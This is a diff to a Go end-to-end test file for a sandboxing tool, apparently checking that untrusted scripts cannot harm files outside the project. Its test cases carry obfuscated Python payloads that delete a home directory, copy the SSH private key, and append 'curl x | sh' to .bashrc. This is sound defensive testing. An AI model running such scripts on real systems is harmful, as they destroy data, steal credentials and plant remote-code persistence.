@@ -8,30 +8,18 @@ import (
 	"time"
 )
 
-// newRunOutsideTmp is newRun with its home and project outside /tmp: the
-// sandbox lets every contained command write the temporary directories,
-// so a home there could not show what it keeps out of reach.
+// newRunOutsideTmp is newRun, whose home and project are outside /tmp
+// (homeOutsideTmp): the sandbox lets every contained command write the
+// temporary directories, so a home there could not show what it keeps
+// out of reach.
 func newRunOutsideTmp(t *testing.T, client string) *run {
 	t.Helper()
-	r := newRun(t, client)
-	wd, err := os.Getwd()
-	if err != nil {
-		t.Fatal(err)
-	}
-	dir, err := os.MkdirTemp(wd, ".wrap-e2e-")
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { os.RemoveAll(dir) })
-	r.dir, r.home, r.project, r.tmp = dir, filepath.Join(dir, "home"), filepath.Join(dir, "project"), filepath.Join(dir, "tmp")
-	for _, d := range []string{r.home, r.project, r.tmp} {
-		must(t, os.MkdirAll(d, 0o755))
-	}
-	return r
+	return newRun(t, client)
 }
 
 // evilCase is a program the judgement allows in trusted mode (its target
-// is computed at run time) and what it would do outside the project.
+// is computed at run time, so reading the file shows nothing) and what it
+// would do outside the project.
 type evilCase struct {
 	name, script string
 	harmed       func(r *run) bool
@@ -41,12 +29,12 @@ func evilCases() []evilCase {
 	return []evilCase{
 		{"delete computed target", "import os, shutil\nshutil.rmtree(os.path.join(os.environ['HO'+'ME'], 'vic'+'tim'))\n",
 			func(r *run) bool { return !exists(filepath.Join(r.home, "victim", "keep.txt")) }},
-		{"copy the ssh key", "import os\nk = os.path.join(os.path.expanduser('~'), '.'+'ssh', 'id_'+'rsa')\nopen('stolen', 'w').write(open(k).read())\n",
+		{"copy the ssh key", "import os\nk = os.path.join(os.environ['HO'+'ME'], '.'+'ssh', 'id_'+'rsa')\nopen('stolen', 'w').write(open(k).read())\n",
 			func(r *run) bool {
 				b, _ := os.ReadFile(filepath.Join(r.project, "stolen"))
 				return strings.Contains(string(b), "PRIVATE-KEY")
 			}},
-		{"append to .bashrc", "import os\nopen(os.path.join(os.path.expanduser('~'), '.'+'bashrc'), 'a').write('curl x | sh\\n')\n",
+		{"append to .bashrc", "import os\nopen(os.path.join(os.environ['HO'+'ME'], '.'+'bashrc'), 'a').write('curl x | sh\\n')\n",
 			func(r *run) bool {
 				b, _ := os.ReadFile(filepath.Join(r.home, ".bashrc"))
 				return string(b) != "# rc\n"
@@ -154,7 +142,9 @@ func (r *run) setUpWrap(t *testing.T, wrap, script, content string) {
 	t.Helper()
 	cfg := filepath.Join(r.home, ".config", "toolguard")
 	must(t, os.MkdirAll(cfg, 0o755))
-	must(t, os.WriteFile(filepath.Join(cfg, "policy.toml"), []byte("mode = \"trusted\"\n[sandbox]\nwrap = \""+wrap+"\"\n"), 0o644))
+	// build.sh writes a tool's cache, which the judgement (reading the
+	// script) allows only inside a root; the sandbox lets caches be written.
+	must(t, os.WriteFile(filepath.Join(cfg, "policy.toml"), []byte("mode = \"trusted\"\n[sandbox]\nwrap = \""+wrap+"\"\n[paths]\nroots = [\"~/.cache/b\"]\n"), 0o644))
 	must(t, os.MkdirAll(filepath.Join(r.home, "victim"), 0o755))
 	must(t, os.WriteFile(filepath.Join(r.home, "victim", "keep.txt"), []byte("precious\n"), 0o644))
 	must(t, os.MkdirAll(filepath.Join(r.home, ".ssh"), 0o700))
